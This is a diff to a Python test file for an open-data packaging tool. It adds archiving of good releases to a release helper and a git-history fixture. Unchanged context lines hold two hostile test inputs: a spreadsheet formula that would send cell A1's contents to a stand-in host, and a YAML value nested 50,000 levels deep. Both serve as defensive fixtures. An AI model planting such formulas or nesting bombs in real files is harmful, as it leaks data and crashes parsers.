@@ -16,7 +16,7 @@ from pathlib import Path
 
 import pytest
 
-from opendata import catalog, i18n, project, yamlsafe
+from opendata import archive, catalog, i18n, project, yamlsafe
 from opendata.problems import BuildError
 from opendata.validate import gate, report
 
@@ -573,13 +573,17 @@ def test_an_output_folder_that_is_a_link_replaces_the_link_not_its_target(built,
 FORMULA = '=HYPERLINK("https://contoh.test/curi?d="&A1,"klik")'
 
 
-def release(root: Path, version: str, message: str, date: str, change=None) -> None:
-    """Commit the project with `version` (and its release notes), after `change(root)`."""
+def release(root: Path, version: str, message: str, date: str, change=None,
+            good: bool = False) -> None:
+    """Commit the project with `version` (and its release notes), after `change(root)`; a
+    good release is archived as `opendata release` does it."""
     from gitrepo import commit, set_version
 
     set_version(root, "uji", version)
     if change:
         change(root)
+    if good:
+        archive.write_current(project.load(root), "uji")
     commit(root, message, date)
 
 
@@ -590,6 +594,7 @@ def bad_history(tmp_path_factory):
     from gitrepo import DATES, commit, git
 
     root = small_project(tmp_path_factory.mktemp("riwayat") / "project")
+    archive.write_current(project.load(root), "uji")
     git(root, "init", "-q", "-b", "main")
     commit(root, "awal", DATES[0])
     good = {name: (root / name).read_bytes() for name in (META, SCHEMA, CSV)}
@@ -625,7 +630,7 @@ def bad_history(tmp_path_factory):
     write(root, META, "a: " + "[" * 50_000 + "]" * 50_000 + "\n")
     commit(root, "terlalu dalam", DATES[1])
     restore(root)
-    release(root, "2.0.0", "baik lagi", DATES[2])
+    release(root, "2.0.0", "baik lagi", DATES[2], good=True)
     return root, bad
 
 
